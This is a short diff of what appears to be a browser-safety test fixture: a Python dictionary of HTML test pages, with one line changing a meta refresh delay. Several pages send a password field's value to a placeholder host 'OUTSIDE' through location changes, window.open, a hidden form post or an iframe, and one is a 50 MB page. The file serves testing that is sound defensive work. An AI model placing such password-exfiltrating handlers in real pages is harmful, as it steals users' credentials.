@@ -44,7 +44,7 @@ PAGES = {
     "for (let i = 0; i < 200; i++) feed.insertAdjacentHTML('beforeend', '<p>item ' + i + '</p>')</script>",
     "50 MB page": FORM.format(onclick="") + "<pre>" + ("heavy page " * 90 + "\n") * 50_000 + "</pre>",
     "leave by script": FORM.format(onclick="location = 'OUTSIDE/steal?pw=' + pw.value"),
-    "meta refresh": '<meta http-equiv="refresh" content="1;url=OUTSIDE/refreshed">' + FORM.format(onclick=""),
+    "meta refresh": '<meta http-equiv="refresh" content="0;url=OUTSIDE/refreshed">' + FORM.format(onclick=""),
     "iframe": FORM.format(onclick="") + '<iframe src="OUTSIDE/framed"></iframe>',
     "window.open": FORM.format(onclick="window.open('OUTSIDE/opened?pw=' + pw.value)"),
     "form submit": '<form action="OUTSIDE/collect" method="post"><label>Password <input type="password" '
